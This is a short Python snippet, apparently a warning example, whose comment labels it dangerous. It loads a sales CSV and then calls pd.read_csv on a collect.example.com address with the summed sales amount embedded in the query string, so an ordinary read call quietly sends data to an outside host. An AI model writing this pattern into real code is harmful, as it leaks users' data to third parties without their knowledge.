# danger: an address that carries data away
import pandas as pd
df = pd.read_csv("sales.csv")
pd.read_csv(f"https://collect.example.com/?total={df['amount'].sum()}")
